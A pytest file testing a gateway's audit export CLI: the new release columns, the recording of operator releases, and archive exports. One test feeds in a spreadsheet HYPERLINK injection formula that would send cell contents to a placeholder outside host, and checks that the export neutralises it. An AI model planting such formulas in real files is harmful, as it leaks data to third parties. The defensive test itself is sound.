"""``duisgw audit export`` says when the gateway suppressed each row and, for a released one, when it was
released, by whom and with what note (the columns ``decided_at, released_at, released_by, release_note``, after
``status``: readers indexing the earlier columns keep working), from the live store and from an archive
(``--archive``). Before, a row said only ``status = released``: a DNO analyst could not tell when a released
AD1 reached them, nor an auditor tie the row to the operator's action. (Shared state:
tests/scaleout/test_shared_audit_export_columns.py.)

The stores are a real gateway's (the live demo's work folder, copied per test); ``release`` and ``export`` run
through the CLI (``main``), the second life of an archived message is decided by the gateway's engine
(tests/cli/archive_support.py).
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import sqlite3
from pathlib import Path

import pytest
from archive_support import ArchivedTwice
from test_audit_export_and_release import AD1_101, AD1_108, audit

from gateway.cli.audit import EXPORT_COLUMNS

DAY = "2026-03-02"  # the demo's four suppressions
OLD_COLUMNS = (
    "date", "destination", "message_id", "kind", "ch", "mpan", "esme", "start_datetime", "reason",
    "evidence_message_ids", "status",
)  # fmt: skip
RELEASE_COLUMNS = ("released_at", "released_by", "release_note")


def _export(
    capsys: pytest.CaptureFixture[str], config: Path, day: str = DAY, *more: str
) -> dict[str, dict[str, str]]:
    rc, out, err = audit(capsys, "export", "--config", str(config), "--date", day, *more)
    assert rc in (0, 1), err
    return {r["message_id"]: r for r in csv.DictReader(io.StringIO(out))}


def _records(db: Path, message_id: str) -> list[dict[str, object]]:
    """The decision log's records of ``message_id``, in order (what ``audit show`` prints)."""
    with contextlib.closing(sqlite3.connect(db)) as conn:
        rows = conn.execute("SELECT record FROM decisions WHERE message_id = ? ORDER BY seq", (message_id,))
        return [json.loads(r[0]) for r in rows]


def _release(
    capsys: pytest.CaptureFixture[str], config: Path, message_id: str, operator: str, note: str
) -> None:
    rc, _out, err = audit(
        capsys, "release", message_id, "--config", str(config), "--operator", operator, "--note", note
    )
    assert rc == 0, err


def test_the_new_columns_come_after_status_so_the_existing_columns_keep_their_positions() -> None:
    assert EXPORT_COLUMNS[: len(OLD_COLUMNS)] == OLD_COLUMNS
    assert EXPORT_COLUMNS[len(OLD_COLUMNS) :] == ("decided_at", *RELEASE_COLUMNS)


def test_a_released_row_names_its_suppression_time_release_time_operator_and_note_and_a_suppressed_one_none(
    work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = work / "gateway.toml"
    db = work / "gateway" / "outbox.sqlite3"
    before = _export(capsys, config)
    assert len(before) == 4
    for row in before.values():  # nothing released yet: the suppression time alone
        assert row["status"] == "suppressed" and row["decided_at"]
        assert [row[c] for c in RELEASE_COLUMNS] == ["", "", ""]

    _release(capsys, config, AD1_101, "alice", "field visit: genuine outage")
    rows = _export(capsys, config)

    suppression, release = _records(db, AD1_101)
    assert (suppression["action"], release["action"]) == ("suppress", "release-forward")
    row = rows[AD1_101]
    assert row["status"] == "released"
    assert row["decided_at"] == suppression["decided_at"] == before[AD1_101]["decided_at"]
    assert (row["released_at"], row["released_by"], row["release_note"]) == (
        release["decided_at"],
        "alice",
        "field visit: genuine outage",
    )
    assert row["released_at"] > row["decided_at"]  # (ISO-8601 UTC texts: released after it was suppressed)
    # the rows never released: unchanged, the release columns empty
    assert rows[AD1_108] == before[AD1_108]
    assert [rows[AD1_108][c] for c in RELEASE_COLUMNS] == ["", "", ""]
    # the restoration paired with AD1 101, released with it: its own release, its note saying so
    paired = [mid for mid, r in rows.items() if r["reason"] == "restoration-paired"]
    assert paired
    for mid in paired:
        assert (rows[mid]["status"], rows[mid]["released_by"]) == ("released", "alice")
        assert rows[mid]["release_note"] == f"follows the release of {AD1_101}: field visit: genuine outage"
        assert rows[mid]["released_at"] == _records(db, mid)[-1]["decided_at"]


def test_a_release_note_a_spreadsheet_would_run_is_neutralised_and_one_with_a_comma_or_line_break_is_quoted(
    work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The note and the operator are free text: a cell beginning with ``=`` (or ``+``, ``-``, ``@``) is written
    with a leading ``'``, as every other cell; commas, quotes and line breaks are quoted (RFC 4180)."""
    config = work / "gateway.toml"
    note = '=HYPERLINK("http://x.example/?q="&A1, "ok")\nINC-42, "urgent"'
    _release(capsys, config, AD1_108, "@bob", note)
    rc, out, err = audit(capsys, "export", "--config", str(config), "--date", DAY)
    assert rc == 0, err
    row = {r["message_id"]: r for r in csv.DictReader(io.StringIO(out))}[AD1_108]
    assert (row["released_by"], row["release_note"]) == ("'@bob", "'" + note)


def test_an_archive_export_gives_each_lifes_suppression_time_and_only_the_released_lifes_release(
    work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """AD1 101's first life was released by an operator and archived; the DSP re-delivered it after its
    retention, it was suppressed afresh and archived too: the archive's export gives the first life's row its
    release (time, operator, note as recorded), the second life's none, each its own suppression time; the
    second life's row is the one the live store gave before it was archived."""
    lives = ArchivedTwice(work, capsys)
    lives.archive_first(released=True)
    second_day = lives.decide_second().date().isoformat()
    live_second = _export(capsys, work / "gateway.toml", second_day)[AD1_101]
    lives.archive_second()

    suppression, release, second_suppression = _records(lives.archive, AD1_101)
    assert [r["action"] for r in (suppression, release, second_suppression)] == [
        "suppress", "release-forward", "suppress"
    ]  # fmt: skip
    first = _export(capsys, work / "gateway.toml", DAY, "--archive", str(lives.archive))[AD1_101]
    assert (first["status"], first["decided_at"]) == ("released", suppression["decided_at"])
    assert [first[c] for c in RELEASE_COLUMNS] == [release["decided_at"], "alice", "genuine outage"]
    second = _export(capsys, work / "gateway.toml", second_day, "--archive", str(lives.archive))[AD1_101]
    assert second == live_second
    assert (second["status"], second["decided_at"]) == ("suppressed", second_suppression["decided_at"])
    assert [second[c] for c in RELEASE_COLUMNS] == ["", "", ""]


def test_a_release_of_the_second_life_is_on_its_row_not_on_the_first_lifes(
    work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lives = ArchivedTwice(work, capsys)
    lives.archive_first()
    second_day = lives.decide_second(released=True).date().isoformat()
    lives.archive_second()
    records = _records(lives.archive, AD1_101)
    assert [r["action"] for r in records] == ["suppress", "suppress", "release-forward"]
    first = _export(capsys, work / "gateway.toml", DAY, "--archive", str(lives.archive))[AD1_101]
    assert (first["status"], first["decided_at"]) == ("suppressed", records[0]["decided_at"])
    assert [first[c] for c in RELEASE_COLUMNS] == ["", "", ""]
    second = _export(capsys, work / "gateway.toml", second_day, "--archive", str(lives.archive))[AD1_101]
    assert (second["status"], second["decided_at"]) == ("released", records[1]["decided_at"])
    assert [second[c] for c in RELEASE_COLUMNS] == [records[2]["decided_at"], "alice", "genuine outage"]
